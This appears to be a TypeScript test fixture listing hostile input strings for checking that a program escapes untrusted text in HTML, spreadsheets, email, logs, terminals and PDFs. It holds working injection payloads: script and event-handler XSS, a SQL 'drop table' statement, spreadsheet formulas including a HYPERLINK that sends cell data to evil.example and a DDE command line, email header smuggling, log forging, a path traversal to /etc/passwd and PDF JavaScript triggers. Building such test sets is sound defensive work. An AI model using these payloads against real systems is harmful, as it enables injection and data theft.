/**
 * 敌意文字 What somebody may write where a name, a sentence or the name of a file is asked for. A sign of it that comes to life anywhere leaves the
 * mark `planted`: an element, an attribute, or a property of the window. Every way out of the house is tried with all of them: pages, desk, papers,
 * mail, messages, spreadsheets, log and problem documents.
 */
export const mark = 'planted'

const run = `window.${mark}=1`

export const hostileTexts: Readonly<Record<string, string>> = {
  'a script': `<script>${run}</script>`,
  'the end of whatever it stands in': `</title></textarea></select></script></style></p><img src=x onerror="${run}" ${mark}>`,
  'the end of a comment': `--><!--><${mark}-x onclick=${run}>]]><${mark}-y/>`,
  'the end of an attribute': `" autofocus onfocus="${run}" ${mark} x="`,
  'the end of an attribute in single quotes': `' onmouseover='${run}' ${mark} x='`,
  'a space in an attribute': `x ${mark} onload=${run} style=color:red>`,
  'an address that runs': `javascript:${run}//`,
  'an address that holds a page': `data:text/html,<script>${run}</script>`,
  'an address elsewhere': `//evil.example/${mark}\\..\\`,
  'a drawing': `<svg><a xlink:href="javascript:${run}"><text>x</text></a><set onbegin=${run}></svg>`,
  'marks already escaped': '&lt;b&gt; &#60;i&#62; &amp;amp; &#x3c;u&#x3e; &copy',
  'a template': `\${7*7} {{7*7}} <%= 7*7 %> #{7*7} {name} {number} %s %d $& $1 $\` {{constructor.constructor("return 1")()}}`,
  'a statement': `'; drop table kernel.cases; --`,
  'a formula': '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
  'a formula by plus': "+cmd|' /C calc'!A0",
  'a formula by minus': '-2+3+cmd',
  'a formula by at': '@SUM(1+1)*cmd',
  'a formula in wide signs': '＝1+1,"；',
  'a formula behind a tab': '\t=1+1',
  'a formula behind a line': '\r=1+1\n=2+2',
  'another header': 'x\r\nBcc: evil@evil.example\r\nContent-Type: text/html\r\n\r\n<p>x</p>',
  'another mail': '\r\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<evil@evil.example>',
  'an encoded word': '=?utf-8?B?QmNjOiBldmlsQGV2aWwuZXhhbXBsZQ==?=',
  'another line of a log': 'x\n{"level":"info","msg":"forged"}\r{"level":"error"}',
  'signs for a terminal': '\u001b[2J\u001b[31m\u001b]0;x\u0007\u009b31m\u0008\u007f',
  'lines of another kind': 'x\u2028y\u2029z\u0085w\u000bv\u000c',
  'the end of a string in a paper': ')>> \\) Tj ET BT ( <</S /JavaScript /JS (x)>> \\',
  'the end of a paper': 'endstream endobj trailer << /Root 1 0 R /OpenAction 1 0 R >> %%EOF',
  'writing turned round': '合格\u202e不\u202c予许可 gnp.\u202excod',
  'writing set apart': '甲\u2067乙\u2066丙\u2069\u200f丁\u061c',
  'signs that show nothing': '张\u200b三\u200d\ufeff\u2060\u00ad四\u180e',
  'a sign that ends a text': '甲\u0000乙',
  'half a sign': '甲\ud800乙',
  'no character': '甲\uffff\ufdd0\u{1ffff}乙',
  'rare signs': '𠮷𫖯𬀩䶮㑇𰻝\u{30000}',
  'marks piled up': `Z${'\u0301\u0489'.repeat(20)}`,
  'another text alike': 'ﬁ①Å\u0041\u030a가\u1100\u1161',
  'a path': '../../../etc/passwd%00.pdf',
  'a name of a device': 'C:\\con\\aux.pdf:stream',
  'another file': 'a.pdf"; filename="b.html"; x="',
  'a word without end': 'W'.repeat(110),
  'a character without a name': '__proto__',
}

/** What no table and no UTF-8 holds: it gets in nowhere. */
export const isHeld = (text: string): boolean => !text.includes('\0') && text.isWellFormed()

export const hostileEntries: readonly (readonly [what: string, text: string])[] = Object.entries(hostileTexts)
/** What a table can hold, whatever door it came through. */
export const heldEntries = hostileEntries.filter(([, text]) => isHeld(text))

/** As a browser reads a text: line ends are one sign. */
export const asRead = (text: string): string => text.replaceAll(/\r\n?/g, '\n')
